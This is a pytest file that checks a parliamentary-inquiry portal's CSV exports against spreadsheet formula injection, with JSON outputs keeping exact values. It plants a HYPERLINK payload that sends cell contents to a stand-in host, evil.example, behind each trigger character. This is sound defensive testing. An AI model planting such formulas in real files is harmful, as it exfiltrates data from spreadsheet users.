"""No CSV the portal serves holds a cell that a spreadsheet would run as a formula.

Every text a CSV list shows is set to begin with each trigger character in turn; the
CSV cell must come back with a leading ``'`` and in quotes, while JSON and the
inquiry.v1 record keep the exact value.
"""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from inquiries import csvsafe
from inquiries.models import Party
from tests.factories import FactionFactory, InquiryFactory, MembershipFactory, MinistryFactory, ParliamentFactory, PersonFactory, TermFactory

TRIGGERS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "carriage return": "\r"}
# A payload as found in the wild, with the comma and quotes that need quoting anyway.
PAYLOAD = 'HYPERLINK("https://evil.example/?d="&A1,"Radverkehr")'
WORD = "Radverkehr"

# endpoint → (CSV column, JSON field) that shows the planted text
ENDPOINTS = {
    "parliaments": ("name", "name"),
    "parties": ("name", "name"),
    "factions": ("name", "name"),
    "people": ("first_name", "first_name"),
    "ministries": ("name", "name"),
    "inquiries": ("title", "title"),
    "search": ("title", "title"),
}


@pytest.fixture
def api(settings) -> APIClient:
    settings.API_THROTTLE_RATE = ""
    return APIClient()


def plant(value: str):
    parliament = ParliamentFactory(code="BW", name=value)
    term = TermFactory(parliament=parliament, number=17)
    party = Party.objects.create(short_name="P", name=value, slug="p")
    faction = FactionFactory(parliament=parliament, short_name="F", name=value, slug="f", party=party)
    person = PersonFactory(first_name=value, last_name="Muster", slug="muster")
    MembershipFactory(person=person, faction=faction)
    ministry = MinistryFactory(parliament=parliament, name=value, slug="m")
    return InquiryFactory(parliament=parliament, term=term, reference="17/1", title=f"{value} {WORD}",
                          answering_ministry=ministry, askers=[(person, faction)], factions=[faction])


def address(endpoint: str, **query: str) -> str:
    if endpoint == "search":
        query["q"] = WORD
    return f"/api/v1/{endpoint}/?" + "&".join(f"{name}={value}" for name, value in query.items())


def expected(endpoint: str, value: str) -> str:
    return f"{value} {WORD}" if ENDPOINTS[endpoint][1] == "title" else value


@pytest.mark.django_db
@pytest.mark.parametrize("endpoint", ENDPOINTS)
@pytest.mark.parametrize("trigger", TRIGGERS.values(), ids=TRIGGERS.keys())
def test_csv_cells_never_start_a_formula(api, endpoint, trigger):
    value = trigger + PAYLOAD
    plant(value)
    response = api.get(address(endpoint, format="csv"))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    column = ENDPOINTS[endpoint][0]
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    planted = expected(endpoint, value)
    assert row[column] == "'" + planted
    # Quoted, with the quotes inside doubled, so that the cell is one cell whatever it holds.
    assert '"' + ("'" + planted).replace('"', '""') + '"' in text
    # No line of the file begins a cell with a trigger, quoted or not.
    cells = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    assert not [cell for cell in cells if cell.startswith(tuple(TRIGGERS.values()))]


@pytest.mark.django_db
@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_json_keeps_the_exact_value(api, endpoint):
    value = "=" + PAYLOAD
    plant(value)
    body = api.get(address(endpoint)).json()
    assert body["results"][0][ENDPOINTS[endpoint][1]] == expected(endpoint, value)


@pytest.mark.django_db
def test_inquiry_v1_record_keeps_the_exact_value(api):
    value = "-" + PAYLOAD
    inquiry = plant(value)
    record = api.get(f"/api/v1/inquiries/{inquiry.pk}/").json()
    assert record["title"] == f"{value} {WORD}"


@pytest.mark.django_db
def test_cells_that_are_safe_stay_as_they_are(api):
    plant("Landtag, 'zitiert' und \"gequotet\"")
    text = api.get("/api/v1/parliaments/", {"format": "csv"}).content.decode()
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["name"] == "Landtag, 'zitiert' und \"gequotet\""
    assert row["minor_deadline_days"].isdigit()


def test_the_writer_leaves_numbers_alone_and_marks_text():
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerows([[-3, 2.5, None, "-3", "@x", "a\r\nb", ""], [""]])
    assert buffer.getvalue() == '-3,2.5,,"\'-3","\'@x","a\r\nb",\r\n""\r\n'
    assert list(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [["-3", "2.5", "", "'-3", "'@x", "a\r\nb", ""], [""]]
